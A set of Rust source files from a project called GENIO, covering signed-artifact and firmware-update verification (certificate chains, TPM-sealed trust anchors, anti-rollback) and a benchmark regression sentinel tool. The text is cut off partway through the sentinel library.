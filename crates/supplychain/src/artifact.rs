//! GENIO-signed custom binaries (the third M9 scenario).
//!
//! "Beyond kernel and userspace package updates, GENIO must also distribute
//! additional binaries, such as specialized daemons and custom tools. These
//! are also signed with GENIO's own certificates, which are likewise
//! validated on each target node before installation." Unlike the APT and
//! ONIE flows, these artifacts are certificate-bound: the verifier checks a
//! full chain to the project root, so keys can be rotated and revoked
//! without reprovisioning nodes.

use genio_crypto::pki::{
    validate_chain, Certificate, CertificateAuthority, KeyUsage, RevocationList,
};
use genio_crypto::sig::{MerklePublicKey, MerkleSignature, MerkleSigner};

use crate::SupplyChainError;

/// A distributable custom binary.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Artifact {
    /// Tool/daemon name.
    pub name: String,
    /// Version string.
    pub version: String,
    /// Binary contents.
    pub content: Vec<u8>,
}

impl Artifact {
    fn signed_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(self.name.as_bytes());
        out.push(0);
        out.extend_from_slice(self.version.as_bytes());
        out.push(0);
        out.extend_from_slice(&self.content);
        out
    }
}

/// A signed artifact bundle: content + signature + the signer's chain.
#[derive(Debug, Clone)]
pub struct SignedArtifact {
    /// The artifact.
    pub artifact: Artifact,
    /// Signature over the canonical artifact bytes.
    pub signature: MerkleSignature,
    /// Certificate chain of the signing key, leaf first.
    pub chain: Vec<Certificate>,
}

/// The project's code-signing identity: a leaf key certified by the GENIO
/// root for `CodeSign`.
#[derive(Debug)]
pub struct CodeSigner {
    signer: MerkleSigner,
    chain: Vec<Certificate>,
}

impl CodeSigner {
    /// Enrols a code-signing key under `ca`.
    ///
    /// # Errors
    ///
    /// Propagates CA exhaustion.
    pub fn enroll(
        ca: &mut CertificateAuthority,
        name: &str,
        seed: &[u8],
        validity: (u64, u64),
    ) -> crate::Result<Self> {
        let signer = MerkleSigner::from_seed(seed, 7);
        let cert = ca.issue(name, signer.public(), validity, vec![KeyUsage::CodeSign])?;
        let chain = vec![cert, ca.certificate().clone()];
        Ok(CodeSigner { signer, chain })
    }

    /// Signs an artifact, bundling the certificate chain.
    ///
    /// # Errors
    ///
    /// Propagates signer exhaustion.
    pub fn sign(&mut self, artifact: Artifact) -> crate::Result<SignedArtifact> {
        let signature = self.signer.sign(&artifact.signed_bytes())?;
        Ok(SignedArtifact {
            artifact,
            signature,
            chain: self.chain.clone(),
        })
    }
}

/// Node-side verification before installation.
///
/// # Errors
///
/// [`SupplyChainError::ArtifactRejected`] naming the failed step.
pub fn verify_artifact(
    bundle: &SignedArtifact,
    trust_anchor: &MerklePublicKey,
    crl: &RevocationList,
    now: u64,
) -> crate::Result<()> {
    validate_chain(&bundle.chain, &[*trust_anchor], crl, now)
        .map_err(|_| SupplyChainError::ArtifactRejected("certificate chain invalid"))?;
    let leaf = &bundle.chain[0];
    if !leaf.allows(KeyUsage::CodeSign) {
        return Err(SupplyChainError::ArtifactRejected(
            "leaf lacks CodeSign usage",
        ));
    }
    if !bundle
        .signature
        .verify(&bundle.artifact.signed_bytes(), &leaf.tbs.public_key)
    {
        return Err(SupplyChainError::ArtifactRejected("signature invalid"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup() -> (CertificateAuthority, CodeSigner) {
        let mut ca =
            CertificateAuthority::self_signed("genio-root", b"root", (0, 10_000), 5).unwrap();
        let signer = CodeSigner::enroll(&mut ca, "genio-release-key", b"rel", (0, 5_000)).unwrap();
        (ca, signer)
    }

    fn artifact() -> Artifact {
        Artifact {
            name: "genio-telemetryd".into(),
            version: "1.3.1".into(),
            content: b"ELF...".to_vec(),
        }
    }

    #[test]
    fn signed_artifact_verifies() {
        let (ca, mut signer) = setup();
        let bundle = signer.sign(artifact()).unwrap();
        verify_artifact(&bundle, &ca.public(), &RevocationList::new(), 100).unwrap();
    }

    #[test]
    fn tampered_content_rejected() {
        let (ca, mut signer) = setup();
        let mut bundle = signer.sign(artifact()).unwrap();
        bundle.artifact.content = b"ELF... + implant".to_vec();
        assert_eq!(
            verify_artifact(&bundle, &ca.public(), &RevocationList::new(), 100),
            Err(SupplyChainError::ArtifactRejected("signature invalid"))
        );
    }

    #[test]
    fn foreign_chain_rejected() {
        let (_ca, mut signer) = setup();
        let other =
            CertificateAuthority::self_signed("other-root", b"other", (0, 10_000), 4).unwrap();
        let bundle = signer.sign(artifact()).unwrap();
        assert_eq!(
            verify_artifact(&bundle, &other.public(), &RevocationList::new(), 100),
            Err(SupplyChainError::ArtifactRejected(
                "certificate chain invalid"
            ))
        );
    }

    #[test]
    fn revoked_signing_key_rejected() {
        let (ca, mut signer) = setup();
        let bundle = signer.sign(artifact()).unwrap();
        let mut crl = RevocationList::new();
        crl.revoke("genio-root", bundle.chain[0].tbs.serial);
        assert!(verify_artifact(&bundle, &ca.public(), &crl, 100).is_err());
    }

    #[test]
    fn expired_chain_rejected() {
        let (ca, mut signer) = setup();
        let bundle = signer.sign(artifact()).unwrap();
        assert!(verify_artifact(&bundle, &ca.public(), &RevocationList::new(), 7_000).is_err());
    }

    #[test]
    fn client_auth_cert_cannot_sign_code() {
        let mut ca =
            CertificateAuthority::self_signed("genio-root", b"root", (0, 10_000), 5).unwrap();
        // Enrol a key with the wrong usage and hand-build the bundle.
        let mut signer = MerkleSigner::from_seed(b"wrong-usage", 6);
        let cert = ca
            .issue(
                "onu-key",
                signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let art = artifact();
        let signature = signer.sign(&art.signed_bytes()).unwrap();
        let bundle = SignedArtifact {
            artifact: art,
            signature,
            chain: vec![cert, ca.certificate().clone()],
        };
        assert_eq!(
            verify_artifact(&bundle, &ca.public(), &RevocationList::new(), 100),
            Err(SupplyChainError::ArtifactRejected(
                "leaf lacks CodeSign usage"
            ))
        );
    }
}
