//! ONIE-style OS/firmware image updates (mitigation **M9**, NIST SP
//! 800-193 shape).
//!
//! The paper: "ONIE images are signed with X.509 certificates, accompanied
//! by a detached signature file that is validated against a locally trusted
//! public key, backed by a TPM. ONIE reboots the system into a minimal
//! environment to apply the update, and fully runs this environment by
//! using Secure Boot, reducing potential interference from a compromised
//! OS."
//!
//! The pieces reproduced here: a detached signature over the image, a
//! trust anchor kept *sealed in the TPM* (so a compromised OS cannot swap
//! it), a minimal update environment that is itself Secure-Boot verified
//! before it runs, and anti-rollback on the version number.

use genio_crypto::sig::{MerklePublicKey, MerkleSignature, MerkleSigner};
use genio_secureboot::bootchain::{boot, BootPolicy, KeyDb, SignedImage as BootImage};
use genio_secureboot::tpm::{SealedBlob, Tpm};

use crate::SupplyChainError;

/// A firmware/OS image offered for installation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FirmwareImage {
    /// Image name, e.g. `onl-installer`.
    pub name: String,
    /// Dotted version string.
    pub version: String,
    /// Image payload.
    pub payload: Vec<u8>,
}

impl FirmwareImage {
    fn signed_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(self.name.as_bytes());
        out.push(0);
        out.extend_from_slice(self.version.as_bytes());
        out.push(0);
        out.extend_from_slice(&self.payload);
        out
    }
}

/// A detached signature file accompanying an image.
#[derive(Debug, Clone)]
pub struct DetachedSignature {
    /// The signature bytes.
    pub signature: MerkleSignature,
    /// Key the vendor claims signed it.
    pub signer: MerklePublicKey,
}

/// The image vendor's signing identity.
#[derive(Debug)]
pub struct ImageVendor {
    signer: MerkleSigner,
}

impl ImageVendor {
    /// Creates a vendor key from a seed.
    pub fn from_seed(seed: &[u8]) -> Self {
        ImageVendor {
            signer: MerkleSigner::from_seed(seed, 6),
        }
    }

    /// The vendor public key (the node's trust anchor).
    pub fn public(&self) -> MerklePublicKey {
        self.signer.public()
    }

    /// Produces the detached signature for `image`.
    ///
    /// # Errors
    ///
    /// Propagates signer exhaustion.
    pub fn sign(&mut self, image: &FirmwareImage) -> crate::Result<DetachedSignature> {
        let signature = self.signer.sign(&image.signed_bytes())?;
        Ok(DetachedSignature {
            signature,
            signer: self.signer.public(),
        })
    }
}

fn parse_version(v: &str) -> Vec<u64> {
    v.split('.').map(|p| p.parse().unwrap_or(0)).collect()
}

fn version_newer(offered: &str, installed: &str) -> bool {
    let a = parse_version(offered);
    let b = parse_version(installed);
    let len = a.len().max(b.len());
    for i in 0..len {
        let x = a.get(i).copied().unwrap_or(0);
        let y = b.get(i).copied().unwrap_or(0);
        if x != y {
            return x > y;
        }
    }
    false
}

/// Persistent update state of one node.
#[derive(Debug)]
pub struct NodeUpdater {
    /// Currently installed image version.
    pub installed_version: String,
    /// Trust anchor sealed into the node's TPM at provisioning time,
    /// bound to the firmware PCR.
    anchor_blob: SealedBlob,
}

/// Outcome of a successful update.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UpdateReceipt {
    /// Version now installed.
    pub installed_version: String,
    /// Whether the minimal environment's own Secure Boot check ran clean.
    pub update_env_verified: bool,
}

impl NodeUpdater {
    /// Provisions a node: seals the vendor trust anchor into the TPM bound
    /// to the firmware PCR (PCR 0).
    ///
    /// # Errors
    ///
    /// Propagates TPM sealing failures.
    pub fn provision(
        tpm: &mut Tpm,
        trust_anchor: MerklePublicKey,
        installed_version: &str,
    ) -> crate::Result<Self> {
        let anchor_blob = tpm
            .seal(&[0], &trust_anchor)
            .map_err(|_| SupplyChainError::UpdateEnvCompromised)?;
        Ok(NodeUpdater {
            installed_version: installed_version.to_string(),
            anchor_blob,
        })
    }

    /// Applies an update end-to-end:
    ///
    /// 1. boots the minimal update environment through Secure Boot
    ///    (`env_stages` verified against `keydb`);
    /// 2. unseals the trust anchor from the TPM (fails if the firmware PCR
    ///    has been tampered with);
    /// 3. verifies the detached signature against the anchor;
    /// 4. enforces anti-rollback;
    /// 5. installs.
    ///
    /// # Errors
    ///
    /// * [`SupplyChainError::UpdateEnvCompromised`] — the minimal
    ///   environment failed its own verification, or the anchor cannot be
    ///   unsealed.
    /// * [`SupplyChainError::UntrustedSigner`] /
    ///   [`SupplyChainError::ImageSignatureInvalid`] — signature problems.
    /// * [`SupplyChainError::RollbackRejected`] — downgrade attempt.
    pub fn apply_update(
        &mut self,
        tpm: &mut Tpm,
        env_stages: &[BootImage],
        keydb: &KeyDb,
        image: &FirmwareImage,
        sig: &DetachedSignature,
    ) -> crate::Result<UpdateReceipt> {
        // 1. Secure-Boot the minimal environment.
        let mut env_tpm = tpm.clone(); // the env boots with its own measurements
        let report = boot(env_stages, keydb, &BootPolicy::default(), &mut env_tpm);
        if !report.completed {
            return Err(SupplyChainError::UpdateEnvCompromised);
        }
        // 2. Recover the trust anchor from the TPM.
        let anchor_bytes = tpm
            .unseal(&self.anchor_blob)
            .map_err(|_| SupplyChainError::UpdateEnvCompromised)?;
        let anchor: MerklePublicKey = anchor_bytes
            .try_into()
            .map_err(|_| SupplyChainError::UpdateEnvCompromised)?;
        // 3. Validate the claimed signer and the signature itself.
        if sig.signer != anchor {
            return Err(SupplyChainError::UntrustedSigner);
        }
        if !sig.signature.verify(&image.signed_bytes(), &anchor) {
            return Err(SupplyChainError::ImageSignatureInvalid);
        }
        // 4. Anti-rollback.
        if !version_newer(&image.version, &self.installed_version) {
            return Err(SupplyChainError::RollbackRejected {
                installed: self.installed_version.clone(),
                offered: image.version.clone(),
            });
        }
        // 5. Install.
        self.installed_version = image.version.clone();
        Ok(UpdateReceipt {
            installed_version: self.installed_version.clone(),
            update_env_verified: true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use genio_secureboot::bootchain::{ImageSigner, StageKind};

    struct Fixture {
        tpm: Tpm,
        updater: NodeUpdater,
        vendor: ImageVendor,
        env_stages: Vec<BootImage>,
        keydb: KeyDb,
    }

    fn fixture() -> Fixture {
        let mut tpm = Tpm::new(b"olt-tpm");
        tpm.extend(0, b"firmware v1"); // provisioning-time firmware state
        let mut vendor = ImageVendor::from_seed(b"onl-vendor");
        let updater = NodeUpdater::provision(&mut tpm, vendor.public(), "1.0.0").unwrap();
        let mut env_signer = ImageSigner::from_seed(b"onie-env-key");
        let mut keydb = KeyDb::new();
        keydb.trust_vendor(env_signer.public());
        let env_stages = vec![env_signer
            .sign(StageKind::Shim, b"onie minimal environment")
            .unwrap()];
        // Touch vendor so the borrow checker sees it mutable where needed.
        let _ = &mut vendor;
        Fixture {
            tpm,
            updater,
            vendor,
            env_stages,
            keydb,
        }
    }

    fn image(version: &str) -> FirmwareImage {
        FirmwareImage {
            name: "onl-installer".into(),
            version: version.into(),
            payload: format!("onl image {version}").into_bytes(),
        }
    }

    #[test]
    fn valid_update_installs() {
        let mut f = fixture();
        let img = image("1.1.0");
        let sig = f.vendor.sign(&img).unwrap();
        let receipt = f
            .updater
            .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig)
            .unwrap();
        assert_eq!(receipt.installed_version, "1.1.0");
        assert_eq!(f.updater.installed_version, "1.1.0");
    }

    #[test]
    fn tampered_payload_rejected() {
        let mut f = fixture();
        let img = image("1.1.0");
        let sig = f.vendor.sign(&img).unwrap();
        let mut evil = img.clone();
        evil.payload = b"onl image 1.1.0 + bootkit".to_vec();
        assert_eq!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &evil, &sig),
            Err(SupplyChainError::ImageSignatureInvalid)
        );
    }

    #[test]
    fn rogue_vendor_rejected() {
        let mut f = fixture();
        let mut rogue = ImageVendor::from_seed(b"rogue-vendor");
        let img = image("1.1.0");
        let sig = rogue.sign(&img).unwrap();
        assert_eq!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig),
            Err(SupplyChainError::UntrustedSigner)
        );
    }

    #[test]
    fn rollback_rejected() {
        let mut f = fixture();
        let img = image("1.1.0");
        let sig = f.vendor.sign(&img).unwrap();
        f.updater
            .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig)
            .unwrap();
        // Genuine, vendor-signed, but older.
        let old = image("1.0.5");
        let old_sig = f.vendor.sign(&old).unwrap();
        assert_eq!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &old, &old_sig),
            Err(SupplyChainError::RollbackRejected {
                installed: "1.1.0".into(),
                offered: "1.0.5".into()
            })
        );
    }

    #[test]
    fn same_version_rejected() {
        let mut f = fixture();
        let img = image("1.0.0");
        let sig = f.vendor.sign(&img).unwrap();
        assert!(matches!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig),
            Err(SupplyChainError::RollbackRejected { .. })
        ));
    }

    #[test]
    fn compromised_update_env_blocks_update() {
        let mut f = fixture();
        // Tamper the minimal environment image: its signature breaks.
        f.env_stages[0].content = b"onie minimal environment + implant".to_vec();
        let img = image("1.1.0");
        let sig = f.vendor.sign(&img).unwrap();
        assert_eq!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig),
            Err(SupplyChainError::UpdateEnvCompromised)
        );
    }

    #[test]
    fn firmware_tamper_breaks_anchor_unseal() {
        let mut f = fixture();
        // Attacker reflashes firmware: PCR 0 changes, the sealed anchor is
        // unrecoverable, updates refuse to proceed on untrusted ground.
        f.tpm.extend(0, b"malicious firmware");
        let img = image("1.1.0");
        let sig = f.vendor.sign(&img).unwrap();
        assert_eq!(
            f.updater
                .apply_update(&mut f.tpm, &f.env_stages, &f.keydb, &img, &sig),
            Err(SupplyChainError::UpdateEnvCompromised)
        );
    }

    #[test]
    fn version_comparison() {
        assert!(version_newer("1.1.0", "1.0.9"));
        assert!(version_newer("2.0", "1.99.99"));
        assert!(!version_newer("1.0.0", "1.0.0"));
        assert!(!version_newer("1.0", "1.0.0"));
        assert!(version_newer("1.0.1", "1.0"));
    }
}
