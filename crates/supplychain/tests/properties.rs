//! Property-based tests for the supply-chain verification chains.

use genio_testkit::prelude::*;

use genio_supplychain::repo::{RepoClient, Repository};

property! {
    /// Whatever gets published, a trusting client fetches exactly the
    /// published bytes; tampering any single published package is always
    /// caught, and only that package is affected. (Expensive under
    /// proptest, full 64 cases here.)
    fn repo_end_to_end_integrity(contents in vec(bytes(0..64), 1..6),
                                 victim in index(),
                                 flip in any_u8()) {
        let mut repo = Repository::new("prop", b"repo-key").unwrap();
        for (i, c) in contents.iter().enumerate() {
            repo.publish(&format!("pkg-{i}"), "1.0.0", c).unwrap();
        }
        let client = RepoClient::trusting(repo.public_key());
        for (i, c) in contents.iter().enumerate() {
            let pkg = client.verify_and_fetch(&repo, &format!("pkg-{i}")).unwrap();
            prop_assert_eq!(&pkg.content, c);
        }
        // Tamper one package (guarantee an actual change).
        let v = victim.index(contents.len());
        let mut evil = contents[v].clone();
        evil.push(flip);
        repo.tamper_content(&format!("pkg-{v}"), &evil);
        for i in 0..contents.len() {
            let result = client.verify_and_fetch(&repo, &format!("pkg-{i}"));
            if i == v {
                prop_assert!(result.is_err(), "tampered package accepted");
            } else {
                prop_assert!(result.is_ok(), "untouched package rejected");
            }
        }
    }
}

property! {
    /// Freshness: a client that saw serial N never accepts a replayed
    /// snapshot with serial < N, for any publish history length.
    fn release_freshness_monotone(updates in 1usize..6) {
        let mut repo = Repository::new("prop", b"fresh-key").unwrap();
        repo.publish("pkg", "1.0.0", b"v0").unwrap();
        let stale_snapshot = Repository::new("prop", b"fresh-key").unwrap();
        let mut client = RepoClient::trusting(repo.public_key());
        for u in 0..updates {
            repo.publish("pkg", &format!("1.0.{}", u + 1), format!("v{}", u + 1).as_bytes())
                .unwrap();
        }
        client.verify_fresh_and_fetch(&repo, "pkg").unwrap();
        // The stale snapshot (never published to) has no release at all;
        // rebuild one with a single publish to give it a low serial.
        let mut stale = stale_snapshot;
        stale.publish("pkg", "0.9.9", b"old").unwrap();
        prop_assert!(client.verify_fresh_and_fetch(&stale, "pkg").is_err());
    }
}
