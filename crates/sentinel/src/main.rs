//! `genio-sentinel` CLI: gate a candidate bench document against a
//! committed baseline.
//!
//! ```text
//! genio-sentinel --baseline BENCH_genio.json --candidate fresh.json \
//!     --anchor fleet_sim --anchor telemetry_overhead \
//!     [--threshold 1.25] [--warn-only] [--json report.json]
//! ```
//!
//! Exit codes: `0` pass, `1` anchored regression, `2` usage or I/O
//! error.

#![forbid(unsafe_code)]

use std::fs;
use std::process::ExitCode;

use genio_sentinel::{compare, BenchDoc, SentinelConfig};

struct Args {
    baseline: String,
    candidate: String,
    json_out: Option<String>,
    cfg: SentinelConfig,
}

const USAGE: &str = "usage: genio-sentinel --baseline <path> --candidate <path> \
[--anchor <substr>]... [--threshold <ratio>] [--warn-only] [--json <path>]";

fn parse_args(argv: &[String]) -> Result<Args, String> {
    let mut baseline = None;
    let mut candidate = None;
    let mut json_out = None;
    let mut cfg = SentinelConfig::default();
    let mut it = argv.iter();
    while let Some(arg) = it.next() {
        let mut value = |flag: &str| -> Result<String, String> {
            it.next()
                .map(|s| s.to_string())
                .ok_or_else(|| format!("{flag} needs a value"))
        };
        match arg.as_str() {
            "--baseline" => baseline = Some(value("--baseline")?),
            "--candidate" => candidate = Some(value("--candidate")?),
            "--anchor" => cfg.anchors.push(value("--anchor")?),
            "--json" => json_out = Some(value("--json")?),
            "--threshold" => {
                let raw = value("--threshold")?;
                let t: f64 = raw
                    .parse()
                    .map_err(|_| format!("bad --threshold {raw:?}"))?;
                if !(t.is_finite() && t > 1.0) {
                    return Err(format!("--threshold must be > 1.0, got {raw}"));
                }
                cfg.threshold = t;
            }
            "--warn-only" => cfg.warn_only = true,
            "--help" | "-h" => return Err(USAGE.to_string()),
            other => return Err(format!("unknown argument {other:?}\n{USAGE}")),
        }
    }
    Ok(Args {
        baseline: baseline.ok_or(format!("--baseline is required\n{USAGE}"))?,
        candidate: candidate.ok_or(format!("--candidate is required\n{USAGE}"))?,
        json_out,
        cfg,
    })
}

fn load_doc(path: &str) -> Result<BenchDoc, String> {
    let text = fs::read_to_string(path).map_err(|e| format!("read {path}: {e}"))?;
    BenchDoc::parse(&text).map_err(|e| format!("parse {path}: {e}"))
}

fn run(argv: &[String]) -> Result<bool, String> {
    let args = parse_args(argv)?;
    let base = load_doc(&args.baseline)?;
    let cand = load_doc(&args.candidate)?;
    let report = compare(&base, &cand, &args.cfg);
    print!("{}", report.render_text());
    if let Some(path) = &args.json_out {
        fs::write(path, format!("{}\n", report.to_json()))
            .map_err(|e| format!("write {path}: {e}"))?;
    }
    Ok(report.passes())
}

fn main() -> ExitCode {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    match run(&argv) {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::from(1),
        Err(msg) => {
            eprintln!("genio-sentinel: {msg}");
            ExitCode::from(2)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sv(args: &[&str]) -> Vec<String> {
        args.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn parses_full_flag_set() {
        let args = parse_args(&sv(&[
            "--baseline", "a.json", "--candidate", "b.json", "--anchor", "fleet",
            "--anchor", "gcm", "--threshold", "1.5", "--warn-only", "--json", "out.json",
        ]))
        .expect("args parse");
        assert_eq!(args.baseline, "a.json");
        assert_eq!(args.candidate, "b.json");
        assert_eq!(args.cfg.anchors, vec!["fleet".to_string(), "gcm".to_string()]);
        assert!((args.cfg.threshold - 1.5).abs() < 1e-12);
        assert!(args.cfg.warn_only);
        assert_eq!(args.json_out.as_deref(), Some("out.json"));
    }

    #[test]
    fn rejects_bad_input() {
        assert!(parse_args(&sv(&["--candidate", "b.json"])).is_err());
        assert!(parse_args(&sv(&["--baseline", "a", "--candidate", "b", "--threshold", "0.9"]))
            .is_err());
        assert!(parse_args(&sv(&["--frobnicate"])).is_err());
        assert!(run(&sv(&["--baseline", "/nonexistent", "--candidate", "/nonexistent"])).is_err());
    }
}
