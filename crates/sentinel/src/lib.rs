//! Bench regression sentinel: diffs two `genio-bench/v1` documents.
//!
//! The sentinel answers one CI question: *did this change make an
//! anchored hot path slower than the noise floor explains?* It pairs
//! benches by `(experiment, name)` across a baseline document (the
//! committed `BENCH_genio.json`) and a candidate document (a fresh
//! `--quick` run), computes the per-bench median ratio, and derives a
//! **noise band** for each pair from the sample spread the bench runner
//! already records (`p95_ns - min_ns` relative to the median). A ratio
//! outside the band is a warning; a ratio above both the band and the
//! configured threshold on an **anchored** bench is a hard regression.
//!
//! Quick-mode runs are noisy, so by default only anchored benches can
//! fail the gate — everything else lands in a warn-only envelope. With
//! no anchors configured the sentinel never fails, which makes the
//! self-check (`BENCH_genio.json` vs itself) a cheap schema/logic gate.

#![forbid(unsafe_code)]

use genio_testkit::bench::Record;
use genio_testkit::json::{self, Value};

/// Schema tag emitted in sentinel reports.
pub const SENTINEL_SCHEMA: &str = "genio-sentinel/v1";

/// Default hard-fail threshold: candidate median > 1.25× baseline.
pub const DEFAULT_THRESHOLD: f64 = 1.25;

/// Noise band floor: quick-mode medians jitter a few percent even on an
/// idle machine, so never treat less than this as signal.
pub const NOISE_FLOOR: f64 = 0.05;

/// Noise band ceiling: a bench whose own spread exceeds 60% of its
/// median cannot gate anything meaningfully, but we still cap the band
/// so a pathological baseline cannot mask an unbounded regression.
pub const NOISE_CEIL: f64 = 0.60;

/// One bench record in the context of its experiment.
#[derive(Clone, Debug)]
pub struct Bench {
    /// Experiment id the parent report carries (e.g. `E-S2`).
    pub experiment: String,
    /// Bench target name from the report (e.g. `fleet_sim`).
    pub target: String,
    /// The measured record.
    pub record: Record,
}

/// A parsed `genio-bench/v1` document: either the merged
/// `BENCH_genio.json` shape (`{"experiments": [...]}`) or a single
/// bench-target report (`{"benches": [...]}`).
#[derive(Clone, Debug, Default)]
pub struct BenchDoc {
    /// All benches across all experiments, in document order.
    pub benches: Vec<Bench>,
}

impl BenchDoc {
    /// Parses a document from JSON text.
    pub fn parse(text: &str) -> Result<BenchDoc, String> {
        let root = json::parse(text)?;
        let schema = root.get("schema").and_then(Value::as_str).unwrap_or("");
        if schema != "genio-bench/v1" {
            return Err(format!("expected schema genio-bench/v1, got {schema:?}"));
        }
        let mut benches = Vec::new();
        match root.get("experiments").and_then(Value::as_arr) {
            Some(reports) => {
                for report in reports {
                    collect_report(report, &mut benches)?;
                }
            }
            None => collect_report(&root, &mut benches)?,
        }
        Ok(BenchDoc { benches })
    }

    /// Looks a bench up by its pairing key.
    fn find(&self, experiment: &str, name: &str) -> Option<&Bench> {
        self.benches
            .iter()
            .find(|b| b.experiment == experiment && b.record.name == name)
    }
}

fn collect_report(report: &Value, out: &mut Vec<Bench>) -> Result<(), String> {
    let experiment = report
        .get("experiment")
        .and_then(Value::as_str)
        .unwrap_or("unknown")
        .to_string();
    let target = report
        .get("target")
        .and_then(Value::as_str)
        .unwrap_or("unknown")
        .to_string();
    let records = report
        .get("benches")
        .and_then(Value::as_arr)
        .ok_or_else(|| format!("report {experiment}/{target} has no benches array"))?;
    for v in records {
        let record = Record::from_json(v)
            .map_err(|e| format!("report {experiment}/{target}: {e}"))?;
        out.push(Bench {
            experiment: experiment.clone(),
            target: target.clone(),
            record,
        });
    }
    Ok(())
}

/// Verdict for one paired bench.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Status {
    /// Within the noise band.
    Ok,
    /// Faster than the noise band explains.
    Improved,
    /// Slower than the noise band, but not an anchored hard failure.
    Warn,
    /// Anchored bench above both the noise band and the threshold.
    Regression,
    /// Present in the baseline, absent from the candidate.
    Missing,
    /// Present in the candidate only (new bench; informational).
    New,
}

impl Status {
    /// Stable lowercase tag used in the JSON report.
    pub fn tag(self) -> &'static str {
        match self {
            Status::Ok => "ok",
            Status::Improved => "improved",
            Status::Warn => "warn",
            Status::Regression => "regression",
            Status::Missing => "missing",
            Status::New => "new",
        }
    }
}

/// One row of the sentinel diff.
#[derive(Clone, Debug)]
pub struct Delta {
    pub experiment: String,
    pub name: String,
    pub base_median_ns: Option<f64>,
    pub cand_median_ns: Option<f64>,
    /// `cand_median / base_median`; 1.0 when either side is missing.
    pub ratio: f64,
    /// Relative noise band half-width derived from sample spread.
    pub noise: f64,
    /// Whether an `--anchor` substring matched this bench.
    pub anchored: bool,
    pub status: Status,
}

/// Sentinel configuration.
#[derive(Clone, Debug)]
pub struct SentinelConfig {
    /// Hard-fail ratio for anchored benches (`1.25` = +25%).
    pub threshold: f64,
    /// Substrings selecting the benches allowed to hard-fail the gate.
    /// Matched against both the bench name and the experiment id.
    pub anchors: Vec<String>,
    /// Downgrade every regression to a warning (report still says
    /// `regression`, but [`SentinelReport::passes`] returns true).
    pub warn_only: bool,
}

impl Default for SentinelConfig {
    fn default() -> Self {
        SentinelConfig {
            threshold: DEFAULT_THRESHOLD,
            anchors: Vec::new(),
            warn_only: false,
        }
    }
}

/// The full diff between two bench documents.
#[derive(Clone, Debug)]
pub struct SentinelReport {
    pub deltas: Vec<Delta>,
    pub warn_only: bool,
}

impl SentinelReport {
    /// Count of rows with the given status.
    pub fn count(&self, status: Status) -> usize {
        self.deltas.iter().filter(|d| d.status == status).count()
    }

    /// Gate verdict: no anchored regressions (or warn-only mode).
    pub fn passes(&self) -> bool {
        self.warn_only || self.count(Status::Regression) == 0
    }

    /// The report's `genio-sentinel/v1` JSON document.
    pub fn to_json(&self) -> Value {
        let rows = self
            .deltas
            .iter()
            .map(|d| {
                let mut fields = vec![
                    ("experiment".to_string(), Value::Str(d.experiment.clone())),
                    ("name".to_string(), Value::Str(d.name.clone())),
                    ("status".to_string(), Value::Str(d.status.tag().to_string())),
                    ("ratio".to_string(), Value::Num(round3(d.ratio))),
                    ("noise".to_string(), Value::Num(round3(d.noise))),
                    ("anchored".to_string(), Value::Bool(d.anchored)),
                ];
                if let Some(b) = d.base_median_ns {
                    fields.push(("base_median_ns".to_string(), Value::Num(b)));
                }
                if let Some(c) = d.cand_median_ns {
                    fields.push(("cand_median_ns".to_string(), Value::Num(c)));
                }
                Value::Obj(fields)
            })
            .collect();
        Value::Obj(vec![
            ("schema".to_string(), Value::Str(SENTINEL_SCHEMA.to_string())),
            ("warn_only".to_string(), Value::Bool(self.warn_only)),
            ("pass".to_string(), Value::Bool(self.passes())),
            (
                "regressions".to_string(),
                Value::Num(self.count(Status::Regression) as f64),
            ),
            (
                "warnings".to_string(),
                Value::Num(self.count(Status::Warn) as f64),
            ),
            ("deltas".to_string(), Value::Arr(rows)),
        ])
    }

    /// Human-readable summary, one line per non-`ok` row plus a verdict.
    pub fn render_text(&self) -> String {
        let mut out = String::new();
        for d in &self.deltas {
            if d.status == Status::Ok {
                continue;
            }
            let anchor = if d.anchored { " [anchored]" } else { "" };
            out.push_str(&format!(
                "{:<10} {}/{}: ratio {:.3} (noise ±{:.3}){}\n",
                d.status.tag(),
                d.experiment,
                d.name,
                d.ratio,
                d.noise,
                anchor
            ));
        }
        out.push_str(&format!(
            "sentinel: {} benches, {} regressions, {} warnings, {} improved -> {}\n",
            self.deltas.len(),
            self.count(Status::Regression),
            self.count(Status::Warn),
            self.count(Status::Improved),
            if self.passes() { "PASS" } else { "FAIL" }
        ));
        out
    }
}

fn round3(x: f64) -> f64 {
    (x * 1_000.0).round() / 1_000.0
}

/// Relative half-width of a record's own sample spread: how far its
/// quick-mode median plausibly wanders between identical runs.
fn relative_spread(r: &Record) -> f64 {
    // A single-sample record has min == median == p95 by construction,
    // so its computed spread is 0 — pure false confidence. Treat it as
    // maximally noisy instead of letting it hard-fail a gate.
    if r.median_ns <= 0.0 || r.samples <= 1 {
        return NOISE_CEIL;
    }
    ((r.p95_ns - r.min_ns) / r.median_ns).clamp(0.0, NOISE_CEIL)
}

fn is_anchored(cfg: &SentinelConfig, experiment: &str, name: &str) -> bool {
    cfg.anchors
        .iter()
        .any(|a| name.contains(a.as_str()) || experiment.contains(a.as_str()))
}

/// Diffs `candidate` against `baseline` under `cfg`.
